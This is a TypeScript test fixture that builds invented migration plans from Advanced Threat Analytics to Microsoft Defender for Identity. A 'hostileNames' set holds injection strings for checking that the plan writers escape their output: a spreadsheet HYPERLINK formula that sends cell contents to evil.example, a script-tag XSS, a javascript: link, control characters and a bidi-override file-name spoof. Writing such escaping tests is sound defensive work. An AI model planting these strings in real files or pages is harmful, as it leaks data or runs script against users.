/** Invented plans for the tests of the writers: a small one with something of everything, and one of any size. */
import type {
  Entity,
  Item,
  ItemManual,
  MigrationPlan,
  Reason,
  Target,
} from '../../src/types/migration-plan.js';

const guide = {
  title: 'Migrate from Advanced Threat Analytics to Microsoft Defender for Identity',
  url: 'https://learn.microsoft.com/en-us/defender-for-identity/migrate-from-ata-overview',
};

const exclusionsPage = {
  title: 'Exclusions in Microsoft Defender for Identity',
  url: 'https://learn.microsoft.com/en-us/defender-for-identity/exclusions',
};

/** Names as somebody who wants to do harm would choose them. */
export const hostileNames = {
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  markup:
    '<script>alert(1)</script> [x](javascript:1) ![y](https://evil.example/z.png) ~~no~~ www.evil.example',
  table: 'a|b `````` \\| c_d_ **e**',
  control: 'a\nb\r\tc\u0000\u001b[31mred\u007f\u009b\u2028',
  direction: 'user\u202Egnp.exe\u200B\uFEFF\u{E0041}',
  surrogate: 'lone \uD800 and \uDC00',
} as const;

/** A target in the portal, with whatever a test is about. */
export function targetWith(over: Partial<Target> = {}): Target {
  return {
    product: 'Microsoft Defender for Identity',
    setting: 'Exclusions by detection rule',
    portalPath: ['System', 'Settings', 'Identities', 'Excluded entities', 'Exclusions by detection rule'],
    mechanism: 'exclusion-by-detection-rule',
    values: [{ field: 'IP addresses', value: '10.1.0.0/16' }],
    limits: ['Has no effect on detections of the Defender XDR engine.'],
    certainty: 'documented',
    ...over,
  };
}

/** A manual item, with whatever a test is about. */
export function manualWith(over: Partial<ItemManual> = {}): ItemManual {
  return {
    disposition: 'manual',
    id: 'exclusions/DnsReconnaissance/10.1.0.0%002f16',
    area: 'exclusions',
    title: 'Exclude 10.1.0.0/16 from Network-mapping reconnaissance (DNS)',
    reason: {
      code: 'exclusion-rule',
      text: 'Exclusions are not transferred from ATA and are entered by hand.',
    },
    source: {
      paths: ['center:Configuration.DnsReconnaissanceDetectorConfiguration.ExcludedSubnets[0]'],
      value: '10.1.0.0/16',
    },
    target: targetWith(),
    entities: [],
    steps: ['Open the rule of the detection.', 'Add 10.1.0.0/16 under IP addresses.'],
    docs: [exclusionsPage, guide],
    notes: [],
    check: 'The rule lists 10.1.0.0/16.',
    ...over,
  };
}

const nothing = { entities: [], steps: [], docs: [], notes: [] };

/** A computer, with whatever a test is about. */
export function entityWith(over: Partial<Entity> = {}): Entity {
  return {
    id: '1d4a3f7e-0b2c-4d5e-8f60-718293a4b5c6',
    kind: 'computer',
    name: 'DC1',
    domain: 'contoso.com',
    samName: 'DC1$',
    sid: 'S-1-5-21-1-2-3-1001',
    upn: null,
    dnsName: 'dc1.contoso.com',
    ipAddress: null,
    resolved: true,
    deleted: false,
    domainController: true,
    operatingSystem: null,
    ...over,
  };
}

/** Four that say the same but for their names; one is entered elsewhere, one has a note of its own. */
export function likeItems(): ItemManual[] {
  const names = ['scanner (SCAN01)', '10.1.0.7', '10.2.0.0/16', 'a|b'];
  const fields = ['Devices', 'IP addresses', 'IP addresses', 'IP addresses'];
  return names.map((name, index) => {
    const value = name.replace(' (SCAN01)', '');
    const field = fields[index] ?? '';
    return manualWith({
      id: `exclusions/DirectoryServicesReplication/${index}`,
      title: `Exclude ${name} from DCSync`,
      source: {
        paths: [`center:Configuration.DirectoryServicesReplication.Excluded[${index}]`],
        value: name,
      },
      target: targetWith({
        values: [
          { field: 'Detection rule', value: 'DCSync' },
          { field, value },
        ],
        detection: { name: 'DCSync', externalId: 2006, detectorId: null, format: 'classic' },
      }),
      steps: ['Open the rule "DCSync".', `Under ${field}, add ${value}.`],
      check: 'The rule "DCSync" lists it.',
      notes: ['May need a rule of its own.', ...(index > 1 ? ['Presumed: that it is in use.'] : [])],
    });
  });
}

const everyDisposition: readonly Item[] = [
  {
    ...nothing,
    disposition: 'unrecognised',
    id: 'unrecognised/center/Configuration.Brand<New>',
    area: 'unrecognised',
    title: 'Unknown setting Configuration.Brand<New>',
    reason: { code: 'unknown-setting', text: 'This program does not know this setting.' },
    source: {
      paths: ['center:Configuration.Brand<New>.Key', 'center:Configuration.Brand<New>.List'],
      value: [],
    },
    target: null,
    notes: ['Look it up in the ATA console.'],
  },
  {
    ...nothing,
    disposition: 'decision',
    id: 'syslog/server/10.20.30.40',
    area: 'syslog',
    title: 'Syslog server 10.20.30.40 over TLS',
    reason: { code: 'syslog-tls-certificate', text: 'The syslog server is reached over TLS.' },
    source: {
      paths: ['center:Configuration.SyslogClientConfiguration.IsEnabled'],
      sharedPaths: ['center:Configuration.SyslogClientConfiguration.Serializer'],
      value: {
        Server: '10.20.30.40',
        Port: 6514,
        'New alerts': true,
        'Health alerts': false,
        Certificate: null,
        Password: {
          $redacted: {
            set: true,
            form: 'ciphertext',
            fingerprint: '0123456789abcdef',
            certificateThumbprint: null,
          },
        },
        Formats: ['Rfc5424', { Nested: { $numberLong: '9007199254740993' }, More: [] }],
      },
    },
    target: targetWith({
      setting: 'Syslog notifications',
      portalPath: ['System', 'Settings', 'Identities', 'Syslog notifications'],
      mechanism: 'portal',
      values: [
        { field: 'Service endpoint', value: '10.20.30.40' },
        { field: 'Port', value: '6514' },
        { field: 'Transport|odd', value: 'TLS | `secured`' },
      ],
      limits: [],
      certainty: 'inferred',
    }),
    steps: ['Open System > Settings > Identities > Syslog notifications.'],
    docs: [guide],
    decision: {
      question: 'Which transport is used from now on?',
      options: [
        { label: 'TLS', cost: 'The certificate has to be put on the sensor.' },
        { label: 'TCP', cost: 'Alerts travel in clear text.' },
      ],
      advice: 'Keep TLS.',
    },
  },
  manualWith(),
  ...likeItems(),
  manualWith({
    id: 'honeytokens/hostile/formula',
    area: 'honeytokens',
    title: hostileNames.formula,
    source: { paths: ['center:Configuration.A[0]'], value: hostileNames.formula },
    target: targetWith({
      values: [{ field: 'User', value: hostileNames.table }],
      certainty: 'seen',
      detection: { name: 'Honeytoken activity', externalId: 2014, detectorId: null, format: 'classic' },
    }),
    notes: [hostileNames.markup],
  }),
  manualWith({
    id: 'honeytokens/hostile/markup',
    area: 'honeytokens',
    title: hostileNames.markup,
    source: {
      paths: ['center:Configuration.A[1]'],
      value: [hostileNames.table, hostileNames.formula, -5, true],
    },
    steps: [`1. ${hostileNames.control}`, hostileNames.direction, '# no heading', '- no list', '> no quote'],
    docs: [{ title: 'Not | a page', url: 'https://learn.microsoft.com/<b>|x' }],
  }),
  manualWith({
    id: 'honeytokens/hostile/control',
    area: 'honeytokens',
    title: hostileNames.control,
    source: {
      paths: ['center:Configuration.A[2]'],
      value: { [hostileNames.direction]: hostileNames.surrogate },
    },
    check: '',
  }),
  {
    ...nothing,
    disposition: 'scripted',
    id: 'event-collection/auditing',
    area: 'event-collection',
    title: 'Windows auditing on the domain controllers',
    reason: { code: 'windows-auditing', text: 'A public PowerShell module sets and checks it.' },
    source: { paths: [], value: null },
    target: targetWith({
      product: 'DefenderForIdentity module',
      portalPath: [],
      mechanism: 'powershell',
      values: [],
      limits: [],
    }),
    docs: [guide],
    command: {
      text: 'Set-MDIConfiguration -Mode Domain -Configuration All',
      permission: 'Domain Admins',
      beta: true,
    },
    check: 'Test-MDIConfiguration -Mode Domain -Configuration All',
  },
  {
    ...nothing,
    disposition: 'scripted',
    id: 'role-groups/viewers',
    area: 'role-groups',
    title: 'Role for the viewers',
    reason: { code: 'role-mapping', text: 'A custom role takes the place of the group.' },
    source: { paths: [], value: null },
    target: targetWith({ portalPath: [], mechanism: 'graph', values: [], limits: [] }),
    docs: [],
    command: {
      text: 'POST https://graph.microsoft.com/beta/roleDefinitions\r\n{\n  "displayName": "``` <b>\u202E"\n}\n=1+1',
      permission: 'RoleManagement.ReadWrite.Defender',
      beta: true,
    },
    check: 'The role is listed.',
  },
  manualWith({
    id: 'center/validate',
    area: 'center',
    title: 'Validate the migration',
    reason: { code: 'migration-step', text: 'A step of the migration guide.' },
    source: { paths: [], value: null },
    docs: [guide],
  }),
  {
    ...nothing,
    disposition: 'automatic',
    id: 'updates/all',
    area: 'updates',
    title: 'Updates',
    reason: { code: 'updates-by-service', text: 'Sensors update by themselves.' },
    source: { paths: ['center:Configuration.Update'], value: false },
    target: null,
    steps: ['Nothing is needed.'],
    notes: ['Delayed update is for sensors v2.x.'],
  },
  {
    ...nothing,
    disposition: 'no-equivalent',
    id: 'email/server',
    area: 'email',
    title: `Mail server ${hostileNames.table}`,
    reason: { code: 'smtp-server-has-no-target', text: 'Defender for Identity sends no mail through it.' },
    source: { paths: ['center:Configuration.Mail'], value: hostileNames.table },
    target: null,
    docs: [{ title: 'Not | a page', url: 'https://learn.microsoft.com/a|b (c)' }],
    closest: 'Email notifications of Defender XDR.',
  },
  {
    ...nothing,
    disposition: 'default',
    id: 'engine-tuning/default',
    area: 'engine-tuning',
    title: 'Engine tuning at its shipped values',
    reason: { code: 'shipped-default', text: "This is ATA's shipped default." },
    source: { paths: Array.from({ length: 7 }, (_, index) => `center:Tuning[${index}]`), value: 7 },
    target: null,
  },
];

/** One item of every disposition, and hostile names in every place a name can be in. */
export function smallPlan(): MigrationPlan {
  return planOf(everyDisposition);
}

/** A plan of the given items; its accounting fits them. */
export function planOf(items: readonly Item[]): MigrationPlan {
  const byDisposition = {
    scripted: 0,
    manual: 0,
    decision: 0,
    automatic: 0,
    'no-equivalent': 0,
    default: 0,
    unrecognised: 0,
  };
  for (const { disposition, source } of items) byDisposition[disposition] += source.paths.length;
  const leaves = items.reduce((sum, { source }) => sum + source.paths.length, 0);
  return {
    schema: 'migration-plan',
    schemaVersion: 1,
    program: { name: 'ata2mdi', version: '0.0.0' },
    factsAsOf: '2026-09',
    sources: [
      {
        name: 'center <1>.json',
        format: 'extended-json',
        encoding: 'utf-8',
        bytes: 1234,
        sha256: null,
        documents: 1,
      },
    ],
    notices: [
      {
        code: 'duplicate-key',
        text: 'A key stands twice; the last one counts.',
        source: 'center <1>.json',
        path: 'A.B',
      },
      { code: 'general', text: 'Something <b>else</b>.', source: null, path: null },
    ],
    centers: [
      {
        key: 'center',
        id: '5aed5ee92bd5d60dd07c0001',
        name: 'ATA_CENTER',
        version: '1.9.7576.49398',
        versionName: '1.9.3',
        supportEnded: '2026-01-13',
      },
    ],
    documents: [{ key: 'center', type: 'CenterSystemProfile', source: 0, leaves, supersededBy: null }],
    accounting: { leaves, accounted: leaves, byDisposition },
    items: [...items],
  };
}

/** As many exclusions as asked for, which share what the catalogue says of them, as real plans do. */
export function largePlan(count: number): MigrationPlan {
  const { reason, docs }: { reason: Reason; docs: ItemManual['docs'] } = manualWith();
  const { portalPath, limits } = targetWith();
  return planOf(
    Array.from({ length: count }, (_, index) => {
      const name = `svc_backup${index}@corp.contoso.com`;
      return manualWith({
        id: `exclusions/DnsReconnaissance/${index}`,
        title: `Exclude ${name} from Network-mapping reconnaissance (DNS)`,
        reason,
        docs,
        source: {
          paths: [`center:Configuration.DnsReconnaissance.ExcludedSourceAccountIds[${index}]`],
          value: name,
        },
        target: targetWith({ portalPath, limits, values: [{ field: 'User', value: name }] }),
        steps: ['Open the rule of the detection.', `Add ${name} under Users.`],
        check: `The rule lists ${name}.`,
      });
    }),
  );
}
